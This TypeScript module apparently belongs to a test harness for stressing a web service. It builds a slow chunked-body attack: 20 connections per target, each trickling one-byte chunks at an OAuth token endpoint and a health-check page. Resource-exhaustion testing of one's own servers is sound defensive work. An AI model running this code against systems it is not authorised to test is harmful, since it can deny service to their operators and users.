import type { Attack } from './attack.ts'
import { Sockets, writeAll } from './sockets.ts'

const attackOn = (place: string): Attack => ({
  name: `bodies in chunks of one byte for ${place}`,
  async begin(service) {
    const sockets = new Sockets(service)
    const head = `${place} HTTP/1.1\r\nHost: t\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n`
    const chunks = '1\r\na\r\n'.repeat(10_000)
    for (let count = 0; count < 20; count++) {
      const socket = await sockets.open()
      socket.write(head)
      void writeAll(socket, chunks, 100)
    }
    return () => sockets.close()
  },
})

/** Long chunked bodies for the token endpoint and for a public page, with one byte in each chunk. */
export const tinyChunks = ['POST /oauth/token', 'GET /healthz'].map(attackOn)
